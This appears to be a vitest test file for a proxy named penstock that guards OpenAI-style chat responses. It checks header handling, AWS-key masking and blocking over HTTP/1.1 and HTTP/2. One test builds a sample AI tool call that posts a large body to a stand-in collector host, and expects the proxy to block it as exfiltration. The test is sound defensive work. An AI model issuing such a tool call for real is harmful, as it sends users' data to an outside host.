// What clients see of an answer's head, over HTTP/1.1 and HTTP/2, with curl where the machine has one and with Node's own clients.
import { describe, expect, test } from 'vitest';
import type { Header } from '../harness/http1.ts';
import { ask, type Curled, curl, hasCurl } from './clients.ts';
import { installation, type Scripted } from './installation.ts';
import { chunks, completion, completionOf, done, json, sse } from './openai-says.ts';
import { awsKey } from './samples.ts';

const penstock = installation();
const question = JSON.stringify({ model: 'gpt-4o', messages: [{ role: 'user', content: 'hello' }] });
const streamed = JSON.stringify({ model: 'gpt-4o', stream: true, messages: [{ role: 'user', content: 'hello' }] });

/** A POST of the body to the chat, or without one a GET of the path. */
type Send = (script: Scripted, body: string | null, path?: string) => Promise<Curled>;

const chat = '/v1/chat/completions';
const withCurl =
  (version: string): Send =>
  (script, body, path = chat) =>
    curl(penstock, script, path, version, ...(body === null ? [] : ['-H', 'content-type: application/json', '--data', body]));
const withNode =
  (http: 1 | 2): Send =>
  async (script, body, path = chat) => {
    const got = await ask(penstock, script, { place: 'openai', http, path, ...(body === null ? {} : { body }) });
    return { exitCode: got.complete ? 0 : 1, status: got.status ?? 0, headers: [...got.headers], body: got.body.toString() };
  };

/** Of the guarded answer, nothing may be kept, be found again by, or lead past the guard. */
const removed: readonly Header[] = [
  ['etag', '"abc"'],
  ['last-modified', 'Tue, 24 Nov 2026 08:00:00 GMT'],
  ['accept-ranges', 'bytes'],
  ['set-cookie', 'session=1'],
  ['alt-svc', 'h3=":443"'],
  ['nel', '{"report_to":"default"}'],
  ['report-to', '{"endpoints":[{"url":"https://reports.example"}]}'],
  ['reporting-endpoints', 'default="https://reports.example"'],
  ['refresh', '0; url=https://elsewhere.example'],
  ['content-md5', 'Q2hlY2sgSW50ZWdyaXR5IQ=='],
  ['digest', 'sha-256=X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE='],
];
const replaced: readonly Header[] = [
  ['cache-control', 'public, max-age=3600'],
  ['x-penstock-exchange', 'ex_of_the_upstream'],
  ['x-penstock-decision', 'of the upstream'],
  ['x-penstock-hold', 'of the upstream'],
];
const kept: readonly Header[] = [
  ['x-ratelimit-remaining-requests', '59'],
  ['openai-processing-ms', '12'],
];

describe.for([
  { client: 'curl over HTTP/1.1', runs: hasCurl, send: withCurl('--http1.1') },
  { client: 'curl over HTTP/2', runs: hasCurl, send: withCurl('--http2-prior-knowledge') },
  { client: 'Node over HTTP/1.1', runs: true, send: withNode(1) },
  { client: 'Node over HTTP/2', runs: true, send: withNode(2) },
])('$client', ({ runs, send }) => {
  const it = test.skipIf(!runs);

  it('gets a masked document with its true length, its decision, and no header that leads past the guard', async () => {
    const answer = json(completion(`The key is ${awsKey}.`));
    const headers = [...answer.headers, ...removed, ...replaced, ...kept];
    const got = await send(penstock.script({ ...answer, headers }), question);
    expect(got).toMatchObject({ exitCode: 0, status: 200 });
    expect(JSON.parse(got.body).choices[0].message.content).toBe('The key is [REDACTED:aws-access-key].');
    expect(valuesOf(got, 'content-length')).toEqual([String(Buffer.byteLength(got.body))]);
    expect(valuesOf(got, 'x-penstock-exchange')).toEqual([expect.stringMatching(/^ex_[0-9A-Z]{26}$/)]);
    expect(valuesOf(got, 'x-penstock-decision')).toEqual(['mask']);
    expect(valuesOf(got, 'cache-control')).toEqual(['no-store']);
    for (const [name] of [...removed, ['x-penstock-hold'] as const]) expect([name, ...valuesOf(got, name)]).toEqual([name]);
    for (const [name, value] of kept) expect([name, ...valuesOf(got, name)]).toEqual([name, value]);
  });

  it('gets a stream without a length and with its exchange', async () => {
    const events = [...chunks(`The key is ${awsKey}.`, 5), done];
    const answer = sse(events);
    const got = await send(penstock.script({ ...answer, headers: [...answer.headers, ...removed, ...replaced] }), streamed);
    expect(got).toMatchObject({ exitCode: 0, status: 200 });
    expect(got.body).toMatch(/data: \[DONE\]\n\n$/);
    expect(got.body).not.toContain(awsKey.slice(0, 5));
    expect(valuesOf(got, 'content-length')).toEqual([]);
    expect(valuesOf(got, 'x-penstock-exchange')).toEqual([expect.stringMatching(/^ex_[0-9A-Z]{26}$/)]);
    expect(valuesOf(got, 'x-penstock-decision')).toEqual([]);
    expect(valuesOf(got, 'cache-control')).toEqual(['no-store']);
    for (const [name] of [...removed, ['x-penstock-hold'] as const]) expect([name, ...valuesOf(got, name)]).toEqual([name]);
  });

  it('gets a block as an error that says why', async () => {
    const call = { name: 'http_post', arguments: JSON.stringify({ url: 'https://collector.example', body: 'x'.repeat(5_000) }) };
    const message = { role: 'assistant', content: null, tool_calls: [{ id: 'call_1', type: 'function', function: call }] };
    const answer = json(completionOf({ message }));
    const got = await send(penstock.script({ ...answer, headers: [...answer.headers, ...removed, ...kept] }), question);
    expect(got).toMatchObject({ exitCode: 0, status: 403 });
    const [exchange] = valuesOf(got, 'x-penstock-exchange');
    expect(JSON.parse(got.body)).toEqual({
      error: {
        message: `a tool call sends a large body to an external host (exchange ${exchange})`,
        type: 'penstock_blocked',
        param: null,
        code: 'penstock_exfiltration',
      },
    });
    expect(valuesOf(got, 'x-penstock-decision')).toEqual(['block']);
    expect(valuesOf(got, 'cache-control')).toEqual(['no-store']);
    expect(valuesOf(got, 'content-type')).toEqual(['application/json']);
    expect(valuesOf(got, 'content-length')).toEqual([String(Buffer.byteLength(got.body))]);
    for (const [name] of [...removed, ...kept]) expect([name, ...valuesOf(got, name)]).toEqual([name]);
  });

  it('gets a path that is not allowed refused with the exchange, before the upstream sees anything', async () => {
    const script = penstock.script(json(completion('never')));
    // Without a body: curl 7.88 now and then loses an answer over HTTP/2 that comes before it has sent all of one.
    const got = await send(script, null, '/v1/files');
    expect(got).toMatchObject({ exitCode: 0, status: 403 });
    expect(JSON.parse(got.body).error.code).toBe('penstock_path_not_allowed');
    expect(valuesOf(got, 'x-penstock-decision')).toEqual(['block']);
    expect(valuesOf(got, 'x-penstock-exchange')).toHaveLength(1);
    expect(script.seen).toEqual([]);
  });
});

describe('a header of the answer', () => {
  test('has a secret in it replaced, as a trailer has', async () => {
    const answer = sse([...chunks('fine', 2), done]);
    const headers: Header[] = [...answer.headers, ['x-debug', `key=${awsKey}`]];
    const script = penstock.script({ ...answer, headers, trailers: [['x-cost', `for ${awsKey}`]] });
    for (const http of [1, 2] as const) {
      const got = await ask(penstock, script, { place: 'openai', http, body: streamed });
      expect(got.headers.get('x-debug')).toBe('key=[REDACTED:aws-access-key]');
      expect(got.trailers).toEqual([['x-cost', 'for [REDACTED:aws-access-key]']]);
      expect(got.complete).toBe(true);
    }
  });

  test('that says how often to ask again reaches the client', async () => {
    const headers: Header[] = [
      ['content-type', 'application/json'],
      ['retry-after', '3'],
    ];
    const script = penstock.script({ ...json({ error: { message: 'slow down' } }, 429), headers });
    const got = await ask(penstock, script, { place: 'openai', body: question });
    expect([got.status, got.headers.get('retry-after')]).toEqual([429, '3']);
  });
});

test.for([
  { what: 'HEAD', method: 'HEAD', status: 200 },
  { what: '204', method: 'POST', status: 204 },
  { what: '304', method: 'GET', status: 304 },
])('an answer without a body to $what stays one', async ({ method, status }) => {
  const script = penstock.script({ status, headers: [['x-said', 'so']], pieces: [], framing: 'none' });
  const got = await ask(penstock, script, { place: 'any', path: '/thing', method });
  expect(got).toMatchObject({ status, complete: true });
  expect(got.body).toHaveLength(0);
  expect(got.headers.get('x-said')).toBe('so');
  expect(got.headers.get('x-penstock-decision')).toBe('allow');
});

test('an empty document is empty for the client', async () => {
  const script = penstock.script({ status: 200, headers: [['content-type', 'application/json']], pieces: [], framing: 'length' });
  const got = await ask(penstock, script, { place: 'any', path: '/thing' });
  expect([got.status, got.complete, got.body.length]).toEqual([200, true, 0]);
});

function valuesOf(got: Curled, name: string): string[] {
  return got.headers.filter(([key]) => key === name).map(([, value]) => value);
}
